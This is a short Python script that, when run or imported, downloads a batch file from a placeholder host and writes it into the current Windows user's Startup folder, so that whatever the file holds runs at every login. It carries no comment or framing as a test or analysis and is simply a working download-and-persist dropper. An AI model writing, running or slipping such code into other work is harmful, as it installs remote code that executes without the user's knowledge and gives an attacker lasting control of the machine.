import os
import urllib.request


def startup_dir():
    return os.path.join(os.path.expanduser("~"), "AppData", "Roaming", "Microsoft", "Windows",
                        "Start Menu", "Programs", "Startup")


def save(url, dest):
    urllib.request.urlretrieve(url, dest)


save("https://x.example.invalid/a.bat", os.path.join(startup_dir(), "a.bat"))
